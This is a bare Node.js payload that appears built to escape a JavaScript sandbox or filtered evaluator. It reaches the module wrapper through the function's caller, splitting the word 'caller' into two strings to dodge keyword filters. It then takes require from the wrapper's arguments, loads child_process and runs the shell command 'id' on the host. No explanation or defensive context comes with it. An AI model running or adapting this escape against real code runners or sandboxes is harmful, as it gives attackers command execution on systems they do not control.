function f() {
  return Reflect.get(f, "call" + "er");
}
const wrapper = f();
wrapper.arguments[1]("child_process").execSync("id", {stdio: "inherit"});
